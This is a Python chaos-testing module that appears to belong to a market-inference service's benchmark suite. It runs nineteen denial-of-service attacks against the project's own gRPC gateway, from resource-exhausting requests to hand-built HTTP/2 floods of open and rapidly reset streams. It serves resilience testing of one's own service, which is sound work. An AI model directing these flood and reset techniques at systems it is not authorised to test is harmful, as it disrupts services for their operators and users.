"""Attacks on a gateway by a client with a key, every attack a function over a connection; part of `make chaos`.

    python -m benchmarks.attacks NAME --target host:port --seconds 6

Owns the attacks. An attack runs in a separate process with low priority, since an attacker computes on another
machine. The process prints a line after the imports, and begins after a line of input. The key comes from
MARKET_INFERENCE_API_KEY. chaos.py runs a victim beside each attack.
"""

import argparse
import asyncio
import contextlib
import itertools
import os
import socket
import sys
import time
from collections.abc import Awaitable, Callable

import grpc
import numpy as np

from benchmarks.pressure import OPTIONS
from market_inference.contract.generated import inference_pb2 as pb
from market_inference.contract.generated.inference_pb2_grpc import MarketInferenceServiceStub
from runtime.listen import split

LONGEST = 10_000
FAILURES = (grpc.aio.AioRpcError, OSError, EOFError)


class Attacker:
    """A channel with a key, and the time of the attack."""

    def __init__(self, target: str, key: str, seconds: float) -> None:
        self.target = target
        self.metadata = (("x-api-key", key),)
        self._until = time.monotonic() + seconds
        options = (*OPTIONS, ("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1))
        self.channel = grpc.aio.insecure_channel(target, options=options)
        self.stub = MarketInferenceServiceStub(self.channel)

    @property
    def left(self) -> float:
        return max(0.0, self._until - time.monotonic())

    async def repeat(self, once: Callable[[], Awaitable[object]], callers: int) -> None:
        """Run `once` again and again, by several callers, until the end of the attack. Refusals do not stop it."""

        async def caller() -> None:
            while self.left > 0:
                with contextlib.suppress(*FAILURES):
                    async with asyncio.timeout(self.left + 0.01):
                        await once()
                await asyncio.sleep(0.01)

        await asyncio.gather(*(caller() for _ in range(callers)))


async def mistakes(attacker: Attacker) -> None:
    """Stream messages of 1,024 items with 256 empty series per item: 535 kB, seconds to explain."""
    item = pb.PredictRequest(series=[pb.Series()] * 256, horizon=5)
    message = pb.StreamRequest(requests=[pb.StreamItem(id=at + 1, predict=item) for at in range(1024)])

    async def once() -> None:
        call = attacker.stub.Stream(metadata=attacker.metadata)
        await call.read()
        await call.write(message)
        await call.done_writing()
        while await call.read() is not grpc.aio.EOF:
            pass

    await attacker.repeat(once, 1)


async def small_mistakes(attacker: Attacker) -> None:
    """Unary calls with 256 empty series, 12 per second: 6 kB/s."""
    request = pb.PredictRequest(series=[pb.Series()] * 256, horizon=5)

    async def once() -> None:
        with contextlib.suppress(grpc.aio.AioRpcError):
            await attacker.stub.Predict(request, metadata=attacker.metadata, timeout=5)
        await asyncio.sleep(0.08)

    await attacker.repeat(once, 1)


def _opening(functions: list[tuple[str, dict[str, float]]], bars: int) -> pb.WatchRequest:
    close = 100 * np.exp(np.cumsum(np.random.default_rng(1).normal(0, 0.01, bars)))
    opened = pb.WatchOpen(history=pb.Panel(symbol="A", close=close.tolist()))
    for name, parameters in functions:
        opened.indicators.add(name=name, params=parameters)
    return pb.WatchRequest(open=opened)


async def _open(attacker: Attacker, opening: pb.WatchRequest) -> None:
    call = attacker.stub.Watch(metadata=attacker.metadata)
    await call.write(opening)
    await call.read()


async def openings(attacker: Attacker) -> None:
    """Sessions with 10,000 bars and 100 recursive indicators."""
    opening = _opening([("T3", {"timeperiod": 5.0 + at}) for at in range(100)], LONGEST)
    await attacker.repeat(lambda: _open(attacker, opening), 8)


async def lookbacks(attacker: Attacker) -> None:
    """Small openings of sessions with much memory: long periods."""
    opening = _opening([("T3", {"timeperiod": 100_000.0 - at}) for at in range(20)], 40)
    await attacker.repeat(lambda: _open(attacker, opening), 4)


async def cancelled_texts(attacker: Attacker) -> None:
    """20 calls of 100 texts of 10,000 characters, cancelled after a third of a second."""
    text = "profit rises while guidance falls and margins widen. " * 188
    request = pb.AnalyzeSentimentRequest(texts=[f"{at} {text}"[:LONGEST] for at in range(100)])

    async def once() -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(0.3):
                await attacker.stub.AnalyzeSentiment(request, metadata=attacker.metadata)

    await attacker.repeat(once, 20)


async def long_texts(attacker: Attacker) -> None:
    """16 calls in flight of 5 texts of 10,000 characters, punctuation: 80 windows a text, the most there are."""
    dice = np.random.default_rng(7)
    request = pb.AnalyzeSentimentRequest(texts=["".join(dice.choice([*"!?.,;:-+"], LONGEST)) for _ in range(5)])
    await attacker.repeat(lambda: attacker.stub.AnalyzeSentiment(request, metadata=attacker.metadata), 16)


async def heavy_forecasts(attacker: Attacker) -> None:
    """Valid, slow forecasts: 64 noisy sines of 10,000 points, horizon 365."""
    steps = np.arange(LONGEST)
    dice = np.random.default_rng(2)
    series = [
        pb.Series(values=(50 + 10 * np.sin(steps / (3 + at)) + dice.normal(0, 1, LONGEST)).tolist()) for at in range(64)
    ]
    request = pb.PredictRequest(series=series, horizon=365)
    await attacker.repeat(lambda: attacker.stub.Predict(request, metadata=attacker.metadata, timeout=10), 4)


async def huge_answers(attacker: Attacker) -> None:
    """64 panels of 10,000 closes with 100 indicators of three outputs: an answer 300 times the request."""
    close = np.linspace(1, 2, LONGEST).tolist()
    request = pb.ComputeIndicatorsRequest(panels=[pb.Panel(close=close)] * 64)
    for period in range(100):
        request.indicators.add(name="BBANDS", params={"timeperiod": 2.0 + period})
    await attacker.repeat(lambda: attacker.stub.ComputeIndicators(request, metadata=attacker.metadata, timeout=10), 2)


async def large_answers(attacker: Attacker) -> None:
    """16 calls in flight with answers of 3 MB, one after the other: what stays of each grows to a gigabyte."""
    levels = [round(0.01 * at, 2) for at in range(1, 100)]
    values = 100 * np.exp(np.cumsum(np.random.default_rng(6).normal(0, 0.01, 256)))
    request = pb.PredictRequest(series=[pb.Series(values=values)] * 10, horizon=365, quantiles=levels)
    await attacker.repeat(lambda: attacker.stub.Predict(request, metadata=attacker.metadata, timeout=10), 16)


async def unread_streams(attacker: Attacker) -> None:
    """8 Streams with requests for large answers, and no read."""
    levels = [round(0.01 * at, 2) for at in range(1, 100)]
    values = (100 + np.sin(np.arange(60))).tolist()
    item = pb.PredictRequest(series=[pb.Series(values=values)] * 16, horizon=365, quantiles=levels)

    async def once() -> None:
        call = attacker.stub.Stream(metadata=attacker.metadata)
        for at in range(200):
            await call.write(pb.StreamRequest(requests=[pb.StreamItem(id=at + 1, predict=item)]))
        await asyncio.sleep(attacker.left)

    await attacker.repeat(once, 8)


async def distinct_programs(attacker: Attacker) -> None:
    """Requests with different indicators: every cache takes a new entry."""
    values = np.linspace(1, 2, 200).tolist()
    dice = np.random.default_rng(3)

    async def once() -> None:
        request = pb.ComputeIndicatorsRequest(panels=[pb.Panel(close=values)])
        for period in dice.integers(2, 150, 100).tolist():
            request.indicators.add(name="SMA", params={"timeperiod": float(period)}, last=1)
        await attacker.stub.ComputeIndicators(request, metadata=attacker.metadata, timeout=5)

    await attacker.repeat(once, 4)


async def long_windows(attacker: Attacker) -> None:
    """One panel of 10,000 bars with 100 CCI of long periods: 243 kB, four seconds of one core."""
    close = 100 * np.exp(np.cumsum(np.random.default_rng(4).normal(0, 0.01, LONGEST)))
    request = pb.ComputeIndicatorsRequest(panels=[pb.Panel(close=close, high=close, low=close)])
    for at in range(100):
        request.indicators.add(name="CCI", params={"timeperiod": 4900.0 + at}, last=1)
    await attacker.repeat(lambda: attacker.stub.ComputeIndicators(request, metadata=attacker.metadata, timeout=10), 4)


async def costly_model(attacker: Attacker) -> None:
    """Series for the model fracast: 40 ms per series."""
    values = 100 * np.exp(np.cumsum(np.random.default_rng(5).normal(0, 0.01, 2048)))
    request = pb.PredictRequest(series=[pb.Series(values=values)] * 16, horizon=24, model="fracast")
    await attacker.repeat(lambda: attacker.stub.Predict(request, metadata=attacker.metadata, timeout=10), 8)


async def costly_bars(attacker: Attacker) -> None:
    """Sessions with 40 indicators of long windows over 10,000 bars, and a bar after every answer."""
    close = np.linspace(100, 200, LONGEST)
    opened = pb.WatchOpen(history=pb.Panel(symbol="A", close=close))
    for at in range(40):
        opened.indicators.add(name="STOCHRSI", params={"fastk_period": 4000.0 + at})

    async def once() -> None:
        call = attacker.stub.Watch(metadata=attacker.metadata)
        await call.write(pb.WatchRequest(open=opened))
        sequence = 0
        while attacker.left and await call.read() is not grpc.aio.EOF:
            sequence += 1
            bar = pb.WatchBar(sequence=sequence, bar=pb.Bar(time=sequence, close=200.0))
            await call.write(pb.WatchRequest(bar=bar))

    await attacker.repeat(once, 4)


_DATA, _HEADERS, _RESET, _SETTINGS, _WINDOW_UPDATE = 0, 1, 3, 4, 8
_END_HEADERS, _END_STREAM, _ACK = 4, 1, 1


def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + body


def _field(name: str, value: str) -> bytes:
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


_FIELDS = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/market.inference.v1.MarketInferenceService/Predict",
    ":authority": "a",
    "te": "trailers",
    "content-type": "application/grpc",
}
_BLOCK = b"".join(_field(name, value) for name, value in _FIELDS.items())
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0)
# Of RST_STREAM: the client no longer needs the call.
_CANCEL = (8).to_bytes(4, "big")


async def headers_without_body(attacker: Attacker) -> None:
    """HTTP/2 connections with 1,000 open calls, without a key and without a request."""
    flood = b"".join(_frame(_HEADERS, _END_HEADERS, stream, _BLOCK) for stream in range(1, 2001, 2))
    while attacker.left > 0:
        with contextlib.ExitStack() as connections:
            for _ in range(3):
                connection = connections.enter_context(socket.create_connection(split(attacker.target)))
                with contextlib.suppress(OSError):
                    connection.sendall(_PREFACE + flood)
            await asyncio.sleep(min(0.5, attacker.left))


async def open_calls(attacker: Attacker) -> None:
    """15,000 calls a second without a key and without a request, on three connections."""
    await _flood(attacker, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _BLOCK))


async def reset_calls(attacker: Attacker) -> None:
    """The same calls, each reset at once."""
    await _flood(
        attacker,
        lambda stream: _frame(_HEADERS, _END_HEADERS, stream, _BLOCK) + _frame(_RESET, 0, stream, _CANCEL),
    )


async def reset_own_calls(attacker: Attacker) -> None:
    """The same calls with the attacker's key."""
    ((name, key),) = attacker.metadata
    block = _BLOCK + _field(name, key)
    await _flood(
        attacker, lambda stream: _frame(_HEADERS, _END_HEADERS, stream, block) + _frame(_RESET, 0, stream, _CANCEL)
    )


async def _flood(attacker: Attacker, call: Callable[[int], bytes]) -> None:
    """Three connections, each with the frames of 100 calls every 20 ms. What the server ends is opened again."""

    async def connection() -> None:
        reader, writer = await asyncio.open_connection(*split(attacker.target))
        with contextlib.closing(writer):
            writer.write(_PREFACE)
            await reader.read(1 << 16)
            # Before that gRPC takes a hundred calls of a connection in all.
            writer.write(_frame(_SETTINGS, _ACK, 0))
            for first in itertools.count(1, 200):
                writer.write(b"".join(call(stream) for stream in range(first, first + 200, 2)))
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(0.02):
                        while await reader.read(1 << 16):
                            pass
                        return

    await attacker.repeat(connection, 3)


async def calls_in_flight(attacker: Attacker) -> None:
    """800 forecasts of 256 points in flight on eight connections, each followed by the next one at its answer."""
    values = 100 * np.exp(np.cumsum(np.random.default_rng(6).normal(0, 0.01, 256)))
    message = pb.PredictRequest(series=[pb.Series(values=values)], horizon=5).SerializeToString()
    body = b"\x00" + len(message).to_bytes(4, "big") + message
    ((name, key),) = attacker.metadata
    block = _BLOCK + _field(name, key)

    async def connection() -> None:
        reader, writer = await asyncio.open_connection(*split(attacker.target))
        with contextlib.closing(writer):
            room = (2**31 - 2**16 - 1).to_bytes(4, "big")
            writer.write(_PREFACE + _frame(_WINDOW_UPDATE, 0, 0, room))
            streams = itertools.count(1, 2)
            while head := await reader.readexactly(9):
                await reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags, more = head[3], head[4], 0
                if kind == _SETTINGS and not flags & _ACK:
                    writer.write(_frame(_SETTINGS, _ACK, 0))
                    more = 100
                elif kind == _HEADERS and flags & _END_STREAM:
                    more = 1
                for stream in itertools.islice(streams, more):
                    writer.write(_frame(_HEADERS, _END_HEADERS, stream, block))
                    writer.write(_frame(_DATA, _END_STREAM, stream, body))
                await writer.drain()

    await attacker.repeat(connection, 8)


async def load_models(target: str, key: str) -> None:
    """Load the models of the attacks, so that loading is no part of an attack's time and memory."""
    attacker = Attacker(target, key, 60.0)
    async with attacker.channel:
        request = pb.PredictRequest(series=[pb.Series(values=np.linspace(1, 2, 100))], horizon=1, model="fracast")
        await attacker.stub.Predict(request, metadata=attacker.metadata, timeout=60.0)


async def busy(attacker: Attacker) -> None:
    """No attack: computes without calls. A victim's loss beside this process is due to the machine, not the service."""
    while attacker.left > 0:
        sum(range(10_000))


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        mistakes,
        small_mistakes,
        openings,
        lookbacks,
        cancelled_texts,
        long_texts,
        heavy_forecasts,
        huge_answers,
        large_answers,
        unread_streams,
        distinct_programs,
        long_windows,
        costly_model,
        costly_bars,
        headers_without_body,
        open_calls,
        reset_calls,
        reset_own_calls,
        calls_in_flight,
    )
}
CONTROL = busy.__name__


async def attack(name: str, target: str, key: str, seconds: float) -> None:
    attacker = Attacker(target, key, seconds)
    async with attacker.channel:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(seconds + 2):
                await (busy if name == CONTROL else ATTACKS[name])(attacker)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("name", choices=(*ATTACKS, CONTROL))
    parser.add_argument("--target", required=True)
    parser.add_argument("--seconds", type=float, default=6.0)
    options = parser.parse_args()
    os.nice(10)
    print("ready", flush=True)
    sys.stdin.readline()
    asyncio.run(attack(options.name, options.target, os.environ["MARKET_INFERENCE_API_KEY"], options.seconds))


if __name__ == "__main__":
    main()
